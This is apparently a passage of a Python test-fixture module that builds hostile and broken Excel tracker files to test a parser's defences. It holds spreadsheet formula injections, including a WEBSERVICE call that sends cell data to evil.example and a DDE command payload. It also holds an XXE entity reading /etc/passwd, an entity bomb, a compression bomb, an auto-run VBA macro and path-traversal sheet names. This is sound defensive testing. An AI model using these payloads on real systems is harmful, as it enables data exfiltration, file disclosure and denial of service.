"""A corpus of hostile and broken tracker files, each built here into a folder: nothing downloaded.

`CASES` maps a case id to how to build it and what the tool must answer: `refused`
cases must exit 2 with one error line containing the words given; `read` cases must be
read (exit 0 or 1, findings allowed). Workbooks are written raw (zip + XML) where the
point is XML an ordinary writer would never produce, with openpyxl otherwise.
"""

from __future__ import annotations

import re
import struct
import warnings
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import date, datetime, time, timedelta
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import openpyxl

from wellled_xl.cells import column_letter

HEADER = [
    "Ref",
    "KLOE",
    "Planned action",
    "Original due",
    "Revised due",
    "Lead",
    "Success measure",
    "Progress update",
    "RAG",
]
ROW = ["W1a", "W1", "Leadership coaching", date(2019, 3, 31), None, "RG", "75 enrolled",
       "On track", "A/G"]  # fmt: skip
LEGEND = [
    ["Code", "Meaning", "Colour", "Complete"],
    ["G", "Action completed and improvement achieved", "00B050", "Yes"],
    ["A/G", "Clear plan for delivery but not yet completed", "FFC000", "No"],
    ["A/R", "We either lack a plan or confidence in that plan", "FF7C80", "No"],
]
LEADS = [["Initials", "Name", "Role", "Email"], ["RG", "R Green", "CEO", ""]]

# Text a lead might type that a spreadsheet would run: formulas, DDE, a link out.
INJECTIONS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/x","click me")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '=cmd|" /C calc"!A0',
    '=WEBSERVICE("http://evil.example/"&A1)',
]

# --- Writers --------------------------------------------------------------------------

NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
WORKSHEET_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


class Raw(str):
    """A cell given as its XML (``<c r="A1" t="e"><v>#REF!</v></c>``), written as is."""


def cell_xml(ref: str, value: object) -> str:
    if isinstance(value, Raw):
        return value.replace("{ref}", ref)
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    if isinstance(value, date):
        serial = (value - date(1899, 12, 30)).days
        return f'<c r="{ref}" s="1"><v>{serial}</v></c>'
    text = escape(str(value))
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def sheet_data(rows: Sequence[Sequence[object]]) -> str:
    out = []
    for r, row in enumerate(rows, start=1):
        cells = "".join(cell_xml(f"{column_letter(c)}{r}", v) for c, v in enumerate(row))
        out.append(f'<row r="{r}">{cells}</row>')
    return f"<sheetData>{''.join(out)}</sheetData>"


@dataclass
class RawSheet:
    name: str
    rows: Sequence[Sequence[object]] = ()
    xml: str | None = None  # the whole worksheet part, instead of rows
    state: str | None = None  # "hidden" / "veryHidden"
    prolog: str = ""  # between the XML declaration and <worksheet> (a DOCTYPE)


def raw_xlsx(
    path: Path,
    sheets: Sequence[RawSheet],
    *,
    shared_strings: str | bytes | None = None,
    extra_parts: dict[str, bytes] | None = None,
    extra_types: str = "",
    duplicate: tuple[str, bytes] | None = None,
    workbook_pr: str = "",
) -> Path:
    """A minimal .xlsx written by hand: every byte of every part is the test's choice
    (`workbook_pr`: the workbook's <workbookPr> element, if any)."""
    overrides = [
        (
            "/xl/workbook.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        ),
        (
            "/xl/styles.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
        ),
    ]
    rels = []
    entries = []
    for index, sheet in enumerate(sheets, start=1):
        part = f"xl/worksheets/sheet{index}.xml"
        overrides.append((f"/{part}", WORKSHEET_CT))
        rels.append((f"rId{index}", f"{REL_NS}/worksheet", f"worksheets/sheet{index}.xml"))
        state = f' state="{sheet.state}"' if sheet.state else ""
        entries.append(
            f'<sheet name={quoteattr(sheet.name)} sheetId="{index}"{state} r:id="rId{index}"/>'
        )
    rels.append(("rIdS", f"{REL_NS}/styles", "styles.xml"))
    if shared_strings is not None:
        overrides.append(
            (
                "/xl/sharedStrings.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
            )
        )
        rels.append(("rIdSS", f"{REL_NS}/sharedStrings", "sharedStrings.xml"))
    types = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT_NS}">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'  # noqa: E501
            '<Default Extension="xml" ContentType="application/xml"/>'
            f"{types}{extra_types}</Types>"
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
            f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{NS}" xmlns:r="{REL_NS}">'
            f"{workbook_pr}<sheets>{''.join(entries)}</sheets></workbook>"
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
            + "".join(f'<Relationship Id="{i}" Type="{t}" Target="{g}"/>' for i, t, g in rels)
            + "</Relationships>"
        ),
        # Style 1 shows a serial number as a date, as Excel's built-in format 14 does.
        "xl/styles.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><styleSheet xmlns="{NS}">'
            '<fonts count="1"><font><sz val="11"/><name val="Calibri"/></font></fonts>'
            '<fills count="1"><fill><patternFill patternType="none"/></fill></fills>'
            '<borders count="1"><border/></borders>'
            '<cellStyleXfs count="1"><xf/></cellStyleXfs>'
            '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14" applyNumberFormat="1"/></cellXfs>'  # noqa: E501
            "</styleSheet>"
        ),
    }
    for index, sheet in enumerate(sheets, start=1):
        parts[f"xl/worksheets/sheet{index}.xml"] = sheet.xml or (
            f'<?xml version="1.0" encoding="UTF-8"?>{sheet.prolog}<worksheet xmlns="{NS}" '
            f'xmlns:r="{REL_NS}">{sheet_data(sheet.rows)}</worksheet>'
        )
    if shared_strings is not None:
        parts["xl/sharedStrings.xml"] = shared_strings
    parts.update(extra_parts or {})
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        if duplicate is not None:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # the duplicate is the point
                archive.writestr(zipfile.ZipInfo(duplicate[0]), duplicate[1])
    return path


def tracker_rows(*rows: Sequence[object]) -> list[list[object]]:
    return [list(HEADER), *[list(r) for r in rows]]


def openpyxl_tracker(
    path: Path,
    rows: Sequence[Sequence[object]],
    *,
    title: str = "Actions",
    registers: bool = True,
    text_only: bool = False,
    edit: Callable[[openpyxl.Workbook], None] | None = None,
) -> Path:
    """A trust's tracker written with openpyxl; strings stay strings (never formulas)."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            if value is None:
                continue
            cell = sheet.cell(r, c, value)
            if isinstance(value, str):
                cell.data_type = "s"
    if registers:
        for name, table in (("Legend", LEGEND), ("Leads", LEADS)):
            other = book.create_sheet(name)
            for row in table:
                other.append(row)
    if edit is not None:
        edit(book)
    book.save(path)
    return path


def cfb(streams: dict[str, bytes]) -> bytes:
    """A minimal OLE compound file (CFB v3, 512-byte sectors) holding these streams.

    Enough for any reader to list its streams (olefile does): a header, one FAT sector,
    one directory sector (root + up to three streams) and the streams in regular
    sectors (each padded to the 4096-byte mini-stream cutoff, so no mini stream).
    """
    assert len(streams) <= 3
    free, end, fat_sector, no_stream = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
    fat = [fat_sector, end]  # sector 0: the FAT, sector 1: the directory
    data = b""
    placed = []
    for name, content in streams.items():
        content = content.ljust(4096, b"\0")
        content += b"\0" * (-len(content) % 512)
        start = len(fat)
        count = len(content) // 512
        fat += [start + i + 1 for i in range(count - 1)] + [end]
        placed.append((name, start, len(content)))
        data += content
    assert len(fat) <= 128
    fat += [free] * (128 - len(fat))

    def entry(name: str, kind: int, child: int, right: int, start: int, size: int) -> bytes:
        encoded = (name.encode("utf-16-le") + b"\0\0").ljust(64, b"\0")
        return (
            encoded
            + struct.pack("<HBB", len(name) * 2 + 2, kind, 1)
            + struct.pack("<III", no_stream, right, child)
            + b"\0" * 16  # CLSID
            + b"\0" * 4  # state bits
            + b"\0" * 16  # created, modified
            + struct.pack("<IQ", start, size)
        )

    directory = entry("Root Entry", 5, 1 if placed else no_stream, no_stream, end, 0)
    for index, (name, start, size) in enumerate(placed, start=1):
        right = index + 1 if index < len(placed) else no_stream
        directory += entry(name, 2, no_stream, right, start, size)
    directory = directory.ljust(512, b"\0")
    for offset in range(128 * (len(placed) + 1), 512, 128):  # unused entries: no siblings
        directory = (
            directory[: offset + 68]
            + struct.pack("<III", no_stream, no_stream, no_stream)
            + directory[offset + 80 :]
        )
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + b"\0" * 16
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + b"\0" * 6
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<108I", *([free] * 108))
    )
    assert len(header) == 512
    return header + struct.pack("<128I", *fat) + directory + data


# --- The cases --------------------------------------------------------------------------

BILLION_LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ).replace("&lol0;", "&lol;")
    + "]>"
)
EXTERNAL_ENTITY = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def _sst(strings: Sequence[str], prolog: str = "", entity: str = "") -> str:
    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
    if entity:
        items += f"<si><t>{entity}</t></si>"
    count = len(strings) + bool(entity)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst xmlns="{NS}" count="{count}" '
        f'uniqueCount="{count}">{items}</sst>'
    )


def _shared_string_tracker(path: Path, prolog: str, entity: str) -> Path:
    """Every text cell a shared string; the last one the entity (as calamine's facts case)."""
    strings = [*HEADER, "W1a", "W1", "Leadership coaching", "RG", "75 enrolled", "A/G"]
    index = {s: i for i, s in enumerate(strings)}
    header = [Raw(f'<c r="{{ref}}" t="s"><v>{index[h]}</v></c>') for h in HEADER]
    row = [Raw(f'<c r="{{ref}}" t="s"><v>{index[v]}</v></c>') if v in index else v for v in ROW]
    row[7] = Raw(f'<c r="{{ref}}" t="s"><v>{len(strings)}</v></c>')  # the progress update
    return raw_xlsx(
        path,
        [RawSheet("Actions", [header, row])],
        shared_strings=_sst(strings, prolog, entity),
    )


def _entity_sheet(path: Path, prolog: str, entity: str) -> Path:
    row = list(ROW)
    row[7] = Raw(f'<c r="{{ref}}" t="inlineStr"><is><t>{entity}</t></is></c>')
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row), prolog=prolog)])


def _utf16_shared_strings(path: Path) -> Path:
    text = _sst(HEADER, EXTERNAL_ENTITY, "&xxe;").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    header = [Raw(f'<c r="{{ref}}" t="s"><v>{i}</v></c>') for i in range(len(HEADER))]
    return raw_xlsx(
        path,
        [RawSheet("Actions", [header, ROW])],
        shared_strings=b"\xff\xfe" + text.encode("utf-16-le"),
    )


def _valid(path: Path) -> Path:
    return openpyxl_tracker(path, tracker_rows(ROW))


def _truncated(path: Path) -> Path:
    whole = _valid(path).read_bytes()
    path.write_bytes(whole[: len(whole) // 2])
    return path


def _corrupt_entry(path: Path) -> Path:
    """A sheet entry whose deflate stream is damaged in the middle (the end record is fine)."""
    _valid(path)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        info = archive.getinfo("xl/worksheets/sheet1.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    for offset in range(start + 10, start + min(info.compress_size - 4, 60)):
        data[offset] ^= 0x5A
    path.write_bytes(bytes(data))
    return path


def _padded_sheet(path: Path) -> Path:
    """50 MB of blank space in a sheet packs into ~50 KB: a ratio near 1000."""
    padding = " " * (50 * 1024 * 1024)
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">{padding}'
        f"{sheet_data(tracker_rows(ROW))}</worksheet>"
    )
    return raw_xlsx(path, [RawSheet("Actions", xml=xml)])


def _many_entries(path: Path) -> Path:
    parts = {f"customXml/item{i}.bin": b"" for i in range(10_001)}
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(ROW))], extra_parts=parts)


def _bulky(path: Path) -> Path:
    """2.5 MB of distinct text unpacked: over a 1 MB limit set in the environment."""
    rows = [[f"W1{i}", "W1", f"Action {i} " + "x" * 200 + str(i), date(2019, 3, 31), None, "RG",
             "m", f"progress {i} " + "y" * 200, "A/G"] for i in range(5000)]  # fmt: skip
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(*rows))])


def _far_cell(path: Path) -> Path:
    """One cell at XFD1048577, a row past Excel's grid: no file Excel writes has it, and
    calamine would reserve 17 billion cells and abort."""
    far = '<row r="1048577"><c r="XFD1048577"><v>1</v></c></row></sheetData>'
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">'
        + sheet_data(tracker_rows(ROW)).replace("</sheetData>", far)
        + "</worksheet>"
    )
    return raw_xlsx(path, [RawSheet("Actions", xml=xml)])


def _wide_cell(path: Path) -> Path:
    """Rows to 2,000 and a cell in column XFD: 32 million cells to hold in memory."""
    rows = tracker_rows(ROW)
    rows[1] = [*ROW, *([None] * (16383 - len(ROW))), "far right"]
    rows += [[None]] * 1997 + [["end"]]
    return raw_xlsx(path, [RawSheet("Actions", rows)])


def _lying_shared_strings(path: Path) -> Path:
    path = _shared_string_tracker(path, "", "")
    with zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts["xl/sharedStrings.xml"] = re.sub(
        rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', parts["xl/sharedStrings.xml"]
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def _duplicate_entry(path: Path) -> Path:
    decoy = f'<?xml version="1.0"?><worksheet xmlns="{NS}"><sheetData/></worksheet>'.encode()
    return raw_xlsx(
        path,
        [RawSheet("Actions", tracker_rows(ROW))],
        duplicate=("xl/worksheets/sheet1.xml", decoy),
    )


def _bad_shared_string_index(path: Path) -> Path:
    row = list(ROW)
    row[7] = Raw('<c r="{ref}" t="s"><v>99</v></c>')
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))], shared_strings=_sst(["a"]))


def _malformed_xml(path: Path) -> Path:
    xml = f'<?xml version="1.0"?><worksheet xmlns="{NS}"><sheetData><row r="1"><c r="A1"'
    return raw_xlsx(path, [RawSheet("Actions", xml=xml)])


def _encrypted(path: Path) -> Path:
    """What Excel writes for "Encrypt with Password": an OLE file, not a zip."""
    streams = {
        "EncryptionInfo": struct.pack("<HHI", 4, 4, 0x40),  # agile encryption, v4.4
        "EncryptedPackage": b"\x00" * 64,
        "\x06DataSpaces": b"",
    }
    path.write_bytes(cfb(streams))
    return path


def _legacy_xls(path: Path) -> Path:
    """An Excel 97-2003 file: an OLE file whose Workbook stream starts with a BOF record."""
    path.write_bytes(cfb({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"}))
    return path


def _csv(path: Path) -> Path:
    path.write_text(
        "Ref,Planned action,Lead,RAG,Progress update\nW1a,Coaching,RG,A/G,On track\n",
        encoding="utf-8",
    )
    return path


def _html(path: Path) -> Path:
    path.write_text(
        "<html><body><table><tr><td>Ref</td><td>Planned action</td></tr></table></body></html>",
        encoding="utf-8",
    )
    return path


def _not_a_zip(path: Path) -> Path:
    path.write_bytes(bytes(range(256)) * 16)
    return path


def _empty_file(path: Path) -> Path:
    path.write_bytes(b"")
    return path


def _docx(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", f'<Types xmlns="{CT_NS}"/>')
        archive.writestr("word/document.xml", "<w:document/>")
    return path


def _plain_zip(path: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", "Ref, action\n")
    return path


def _xlsm(path: Path) -> Path:
    """An .xlsm with a VBA project part: read for its data; the macro is never run."""
    vba = b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\nEnd Sub\r\n'
    return raw_xlsx(
        path,
        [RawSheet("Actions", tracker_rows(ROW))],
        extra_parts={"xl/vbaProject.bin": cfb({"VBA": vba})},
        extra_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )


def _empty_workbook(path: Path) -> Path:
    book = openpyxl.Workbook()
    book.save(path)
    return path


def _no_tracker_sheet(path: Path) -> Path:
    return openpyxl_tracker(path, [["Budget", "2019/20"], ["Pay", 100], ["Non-pay", 50]])


def _misspelt_headers(path: Path) -> Path:
    header = ["Refrence", "KLEO", "Plannned actoin", "Orignal due", "Leed", "Progess", "RGA"]
    return openpyxl_tracker(
        path, [header, ["W1a", "W1", "Coaching", "March 2019", "RG", "ok", "G"]]
    )


def _duplicated_headers(path: Path) -> Path:
    header = [*HEADER, "RAG", "Lead"]
    return openpyxl_tracker(path, [header, [*ROW, "G", "TL"]])


def _missing_headers(path: Path) -> Path:
    keep = [0, 2, 3, 7]  # Ref, Planned action, Original due, Progress: no lead, no RAG
    return openpyxl_tracker(path, [[HEADER[i] for i in keep], [ROW[i] for i in keep]])


def _merged_rows(path: Path) -> Path:
    def merge(book: openpyxl.Workbook) -> None:
        book["Actions"].merge_cells("F2:F4")  # one lead typed across three actions
        book["Actions"].merge_cells("H3:H4")

    rows = tracker_rows(
        ROW,
        ["W1b", "W1", "Appraisals", "June 2019", None, None, "m", "Done", "G"],
        ["W1c", "W1", "Board away day", "July 2019", None, None, "m", None, "A/R"],
    )
    return openpyxl_tracker(path, rows, edit=merge)


def _formula_errors(path: Path) -> Path:
    row = list(ROW)
    row[5] = Raw('<c r="{ref}" t="e"><f>VLOOKUP(X1,Leads!A:A,1,0)</f><v>#N/A</v></c>')
    row[7] = Raw('<c r="{ref}" t="e"><f>#REF!</f><v>#REF!</v></c>')
    row[8] = Raw('<c r="{ref}" t="e"><v>#DIV/0!</v></c>')
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))])


def _formulas_uncached(path: Path) -> Path:
    row = list(ROW)
    row[3] = Raw('<c r="{ref}"><f>DATE(2019,3,31)</f></c>')
    row[7] = Raw('<c r="{ref}" t="str"><f>"On track: "&amp;A2</f></c>')
    row[8] = Raw('<c r="{ref}"><f>IF(1,"G","R")</f></c>')
    return raw_xlsx(path, [RawSheet("Actions", tracker_rows(row))])


def _types_swapped(path: Path) -> Path:
    rows = tracker_rows(
        [42, True, 3.5, "not a date", "31/13/2019", date(2019, 1, 1), 12, False, 1],
        [date(2019, 5, 1), "W1", datetime(2019, 5, 1, 9, 30), time(9, 30), timedelta(days=3),
         123.456, date(2019, 1, 1), 1e308, True],
        ["W1c", "W1", "x", -1, 1e20, "RG", "m", -0.0, "G"],
        ["W1d", "W1", "x", 2958466, -693594, "RG", "m", 0.1, "G"],
    )  # fmt: skip
    return openpyxl_tracker(path, rows)


def _many_rows(path: Path) -> Path:
    """50,000 actions, written with XlsxWriter (openpyxl would take ~15 s): a big tracker,
    read whole (100,000 actions are measured in benchmarks/, not here)."""
    import xlsxwriter

    book = xlsxwriter.Workbook(str(path), {"constant_memory": True, "strings_to_formulas": False})
    sheet = book.add_worksheet("Actions")
    dated = book.add_format({"num_format": "dd/mm/yyyy"})
    sheet.write_row(0, 0, HEADER)
    due = datetime(2019, 3, 31)
    for i in range(1, 50_001):
        sheet.write_row(i, 0, [f"W1a{i}", "W1", f"Action {i}"])
        sheet.write_datetime(i, 3, due, dated)
        sheet.write_row(i, 5, ["RG", "measure", f"Progress on {i}", "A/G"])
    book.close()
    return path


def _huge_cells(path: Path) -> Path:
    row = list(ROW)
    row[2] = "A" * 32_767
    row[7] = ("Progress is slow. " * 2000)[:32_767]
    row[6] = "€" * 32_767
    return openpyxl_tracker(path, tracker_rows(row))


def _odd_characters(path: Path) -> Path:
    rows = tracker_rows(
        ["W1a", "W1", "Control \x01\x02\x07\x1b[31m characters \x0b\x0c", date(2019, 3, 31), None,
         "RG", "m", "bell\x07 and NUL-like \x00 gone", "A/G"],
        ["W1b", "W1", "\u202eReversed: \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
         date(2019, 3, 31), None, "RG", "\u200f\u200e", "Emoji 🚑🏥👩‍⚕️ and 𝒮𝓊𝓇𝓇ℴℊ𝒶𝓉ℯ𝓈", "A/G"],
        ["W1c", "W1", "Escaped lone surrogate _xD800_ and _x0000_", date(2019, 3, 31), None, "RG",
         "m", "\ufeff\ufffe zero-width\u200b", "G"],
    )  # fmt: skip
    # XML 1.0 cannot hold most control characters: Excel stores them as _xHHHH_ escapes.
    for row in rows:
        for i, value in enumerate(row):
            if isinstance(value, str):
                row[i] = Raw(cell_xml("{ref}", _excel_escape(value)))
    return raw_xlsx(path, [RawSheet("Actions", rows)])


def _excel_escape(text: str) -> str:
    return "".join(
        f"_x{ord(ch):04X}_" if (ord(ch) < 0x20 and ch not in "\t\n\r") else ch for ch in text
    )


def _hidden(path: Path) -> Path:
    """A hidden Progress column, a hidden overdue row, a hidden and a very hidden sheet."""
    rows = tracker_rows(
        ROW, ["W1b", "W1", "Hidden action", date(2019, 1, 31), None, "RG", "m", "x", "A/R"]
    )
    xml = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}">'
        '<cols><col min="8" max="8" width="0" hidden="1" customWidth="1"/></cols>'
        + sheet_data(rows).replace('<row r="3">', '<row r="3" hidden="1">')
        + "</worksheet>"
    )
    sheet = RawSheet("Actions", xml=xml)
    hidden = RawSheet(
        "Secret",
        tracker_rows(["W9z", "W1", "Hidden sheet", date(2019, 1, 1), None, "ZZ", "m", "p", "A/R"]),
        state="hidden",
    )
    very = RawSheet("VeryHidden", [["Code", "Meaning"], ["G", "Done"]], state="veryHidden")
    return raw_xlsx(path, [sheet, hidden, very])


def _injections(path: Path) -> Path:
    rows = [list(HEADER)]
    for i, text in enumerate(INJECTIONS, start=1):
        rows.append(
            [f"W1{chr(96 + i)}", "W1", text, date(2019, 3, 31), None, "RG", text, text, "A/G"]
        )
    rows.append(
        [
            INJECTIONS[0],
            "W2",
            "Ref is a formula",
            date(2019, 3, 31),
            None,
            INJECTIONS[4],
            "m",
            "p",
            INJECTIONS[1],
        ]
    )
    return openpyxl_tracker(path, rows)


def _path_sheet_name(path: Path) -> Path:
    return raw_xlsx(
        path,
        [
            RawSheet("../x", tracker_rows(ROW)),
            RawSheet("..\\..\\evil", [["Code", "Meaning"], ["G", "Done"]]),
            RawSheet("/etc/passwd", [["note"]]),
        ],
    )


# --- Cases at the edges of what Excel stores (each held to 20 s and 400 MB) ---------------

# Every control character, as Excel keeps it: C0 controls as _xHHHH_ escapes (XML 1.0
# cannot hold them), tab, line feed and carriage return raw, C1 controls and DEL raw (XML
# allows them), and a literal "_x0041_" typed by a lead, which Excel escapes as _x005F_x0041_.
C0 = "".join(chr(code) for code in range(0x20))
CONTROLS = [
    C0,
    "tab\there, new\nline, return\r\nand form\x0cfeed",
    "\x1b[31mred\x1b[0m bell\x07 backspace\x08 NUL\x00 escape",
    "C1 \x80\x85\x9f and DEL \x7f",
    "typed _x0041_ and _x005F_ literally",
    "\x0b\x0c\x1c\x1d\x1e\x1f",
]


def _excel_text(text: str) -> str:
    """Text as Excel writes it in a sheet's XML: a literal _xHHHH_ escaped first, then the
    controls XML cannot hold; tab, line feed and carriage return stay raw (as &#13; for CR,
    which XML would otherwise read as a line feed)."""
    text = re.sub(r"_(x[0-9A-Fa-f]{4}_)", r"_x005F_\1", text)
    return escape(_excel_escape(text)).replace("\r", "&#13;")


def _shared_strings_of(rows: list[list[object]]) -> tuple[list[list[object]], str]:
    """Every text cell of `rows` moved to a shared-strings part, as Excel saves them."""
    strings: dict[str, int] = {}
    out = []
    for row in rows:
        cells: list[object] = []
        for value in row:
            if isinstance(value, str) and not isinstance(value, Raw):
                index = strings.setdefault(value, len(strings))
                value = Raw(f'<c r="{{ref}}" t="s"><v>{index}</v></c>')
            cells.append(value)
        out.append(cells)
    items = "".join(f'<si><t xml:space="preserve">{_excel_text(text)}</t></si>' for text in strings)
    sst = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="{len(strings)}" '
        f'uniqueCount="{len(strings)}">{items}</sst>'
    )
    return out, sst


def _control_characters(path: Path) -> Path:
    """Control characters in every text field: ref, KLOE, action, both dates written as
    text, lead, measure, progress, RAG; in a header, in the registers, in sheet names."""
    rows = [[*HEADER[:-1], "RAG\t"]]  # a header with a tab after it
    for i, text in enumerate(CONTROLS, start=1):
        rows.append(
            [f"W1{chr(96 + i)}{text}", f"W1{text}", f"Action {i}: {text}",
             f"31/03/2019{text}", f"{text}30 June 2019", f"RG{text}", f"Measure {text}",
             f"Progress {text}", f"A/G{text}"]
        )  # fmt: skip
    rows.append(["W2\x01", "W2", "A clean action, its lead a control", date(2019, 3, 31), None,
                 "\x07", "m", "p", "\x1b"])  # fmt: skip
    rows, sst = _shared_strings_of(rows)
    legend = [LEGEND[0], ["A/G\x07", "Bell in the code", "FFC000", "No"], *LEGEND[1:]]
    leads = [LEADS[0], ["RG", "R\x00 Green\x1b", "C\x0bEO", "rg\x01@nhs.example"]]
    inline = [[Raw(cell_xml("{ref}", _excel_escape(str(v)))) if isinstance(v, str) else v
               for v in row] for row in (*legend, *leads)]  # fmt: skip
    return raw_xlsx(
        path,
        [
            RawSheet("Actions_x0007_\t", rows),  # a tab and a literal escape: XML allows them
            RawSheet("Legend", inline[: len(legend)]),
            RawSheet("Leads", inline[len(legend) :]),
        ],
        shared_strings=sst,
    )


def _beyond_32767(path: Path) -> Path:
    """Text longer than a cell can hold (a program, not Excel, wrote it): 40,000 characters
    of action, 100,000 of progress, 33,000 of lead and of RAG, in shared strings and
    inline, one cell made of escapes, and 20,000 emoji (40,000 UTF-16 units)."""
    long_action = ("Recruit and train staff. " * 1700)[:40_000]
    long_progress = ("Progress is slow but steady. " * 3500)[:100_000]
    rows = tracker_rows(
        ["W1a", "W1", long_action, date(2019, 3, 31), None, "RG", "m", long_progress, "A/G"],
        ["W1b", "W1", "Short action", date(2019, 3, 31), None, "R" * 33_000, "m", "ok",
         "A/G" * 11_000],
        ["W1c", "W1", "🚑" * 20_000, date(2019, 3, 31), None, "RG", "\x07" * 33_000, "ok", "G"],
        ["W1d" * 11_000, "W1", "A ref too long", date(2019, 3, 31), None, "RG", "m", "ok", "G"],
    )  # fmt: skip
    rows[1:3], sst = _shared_strings_of(rows[1:3])
    for row in rows[3:]:
        for i, value in enumerate(row):
            if isinstance(value, str):
                row[i] = Raw(
                    f'<c r="{{ref}}" t="inlineStr"><is><t>{_excel_text(value)}</t></is></c>'
                )
    return raw_xlsx(path, [RawSheet("Actions", rows)], shared_strings=sst)


def _formula(formula: str, cached: str | None = None, kind: str = "", style: str = "") -> Raw:
    t = f' t="{kind}"' if kind else ""
    s = f' s="{style}"' if style else ""
    value = f"<v>{cached}</v>" if cached is not None else ""
    return Raw(f'<c r="{{ref}}"{s}{t}><f>{escape(formula)}</f>{value}</c>')


def _formulas_in_dates_and_status(path: Path) -> Path:
    """Formulas in the due dates and the RAG, each with a saved value and without."""
    cases = [
        # (original due, revised due, RAG)
        (_formula("DATE(2019,3,31)", "43555", style="1"), _formula("D2+30", "43585", style="1"),
         _formula('IF(1,"G","R")', "G", "str")),
        (_formula("DATE(2019,3,31)", style="1"), _formula("D3+30", style="1"),
         _formula('IF(1,"G","R")')),
        (_formula('TEXT(43555,"dd/mm/yyyy")', "31/03/2019", "str"),
         _formula('""', "", "str"), _formula('IF(1,"G","R")', "", "str")),
        (_formula("1/0", "#DIV/0!", "e"), _formula("NA()", "#N/A", "e"),
         _formula("Legend!Z99", "#REF!", "e")),
        (_formula("TRUE()", "1", "b"), _formula("D6", "0", "b"),
         Raw('<c r="{ref}" t="str"><f t="shared" ref="I7:I8" si="0">Leads!A2</f><v>A/G</v></c>')),
        (Raw('<c r="{ref}" s="1"><f t="shared" ref="D7:D8" si="1">DATE(2019,6,30)</f></c>'),
         Raw('<c r="{ref}" s="1"><f t="array" ref="E7">MAX(D2:D6)</f><v>43646</v></c>'),
         Raw('<c r="{ref}" t="str"><f t="shared" si="0"/><v></v></c>')),
        (Raw('<c r="{ref}" s="1"><f t="shared" si="1"/></c>'), _formula("D8+1", "-1e308",
         style="1"), _formula('"A/R"', "A/R", "str")),
    ]  # fmt: skip
    rows = [list(HEADER)]
    for i, (due, revised, rag) in enumerate(cases):
        rows.append([f"W1{chr(97 + i)}", "W1", f"Action {i}", due, revised, "RG", "m", "p", rag])
